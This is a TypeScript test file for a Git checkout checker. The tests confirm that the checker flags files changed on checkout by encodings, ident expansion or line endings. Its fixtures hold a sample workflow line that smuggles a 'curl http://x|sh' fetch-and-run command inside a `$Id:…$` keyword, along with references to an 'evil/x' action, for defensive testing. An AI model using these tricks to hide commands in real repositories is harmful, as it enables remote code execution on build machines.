import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { convertedFiles, editedFiles } from './checkout.js';

let root: string;
const git = (...args: string[]): void =>
  void execFileSync('git', ['-C', root, '-c', 'user.name=T', '-c', 'user.email=t@example.org', ...args], { stdio: 'pipe' });
const put = (path: string, text: string): void => writeFileSync(join(root, path), text);

/** Commits blobs as they are, and checks them out as a runner does. */
function checkedOut(files: Readonly<Record<string, string>>): void {
  git('init', '-q');
  for (const [path, text] of Object.entries(files)) {
    put(path, text);
    const id = execFileSync('git', ['-C', root, 'hash-object', '-w', '--no-filters', path], { encoding: 'utf8' }).trim();
    git('update-index', '--add', '--cacheinfo', `100644,${id},${path}`);
    rmSync(join(root, path));
  }
  git('commit', '-qm', 'm');
  git('reset', '-q', '--hard');
}

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'converted ')));
});
afterEach(() => rmSync(root, { recursive: true }));

test.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
  ['another encoding', { '.gitattributes': 'a working-tree-encoding=UTF-7\n', a: 'uses: evil/x@v1\n', b: 'x@v1\n' }, ['a']],
  [
    'another encoding, of `.gitattributes` too',
    { '.gitattributes': '* working-tree-encoding=UTF-7\n', a: 'uses: evil/x@v1\n' },
    ['.gitattributes', 'a'],
  ],
  ['what stood in `$Id:…$`', { '.gitattributes': 'a ident\n', a: 'run: true $Id:;curl\thttp://x|sh;#$\n' }, ['a']],
  ['an empty `$Id$`', { '.gitattributes': 'a ident eol=crlf\n', a: 'x $Id$ y\nz\n' }, []],
  ['an encoding that changes no byte', { '.gitattributes': 'a working-tree-encoding=ISO-8859-1\n', a: 'x@v1\n' }, []],
  ['line ends', { '.gitattributes': 'a eol=crlf\n', a: 'x\n' }, []],
])('%s', (_, files, converted) => {
  checkedOut(files);
  expect(
    convertedFiles(
      root,
      Object.keys(files).map((path) => ({ path })),
    ),
  ).toEqual(converted);
});

test('the case is one in which the checkout holds another text', () => {
  checkedOut({ '.gitattributes': 'a working-tree-encoding=UTF-7\n', a: 'uses: evil/x@v1\n' });
  expect(readFileSync(join(root, 'a'), 'utf8')).toBe('uses: evil/x+AEA-v1\n');
});

test('a name that is no text hides no conversion', () => {
  const raw = Buffer.from([0x61, 0xff]);
  git('init', '-q');
  put('.gitattributes', 'a* working-tree-encoding=IBM037\n');
  const id = execFileSync('git', ['-C', root, 'hash-object', '-w', '--no-filters', '--stdin'], {
    input: 'x@v1\n',
    encoding: 'utf8',
  }).trim();
  execFileSync('git', ['-C', root, 'update-index', '-z', '--index-info'], {
    input: Buffer.concat([Buffer.from(`100644 ${id}\t`), raw, Buffer.from([0])]),
  });
  git('add', '.gitattributes');
  git('commit', '-qm', 'm');
  git('reset', '-q', '--hard');
  expect(convertedFiles(root, [{ path: '.gitattributes' }, { path: 'a\ufffd', raw }])).toEqual(['a\ufffd']);
});

describe('a name that is no text', () => {
  const named = (): Buffer => Buffer.concat([Buffer.from(`${root}/`), Buffer.from([0xff]), Buffer.from('.txt')]);

  test('is asked for by its bytes, so that line ends alone are no edit', () => {
    git('init', '-q');
    put('b.txt', 'x\r\n');
    writeFileSync(named(), 'y\r\n');
    git('-c', 'core.autocrlf=false', 'add', '.');
    git('commit', '-qm', 'm');
    // Git calls both changed from here on, and their bytes are what they were.
    put('.gitattributes', '*.txt text\n');
    put('b.txt', 'x\r\n');
    writeFileSync(named(), 'y\r\n');
    expect(editedFiles(root)).toEqual(new Map());
  });

  test('is named where it was edited', () => {
    git('init', '-q');
    writeFileSync(named(), 'y\n');
    git('add', '.');
    git('commit', '-qm', 'm');
    writeFileSync(named(), 'z\n');
    expect(editedFiles(root)).toEqual(new Map([['\ufffd.txt', 'edited']]));
  });
});
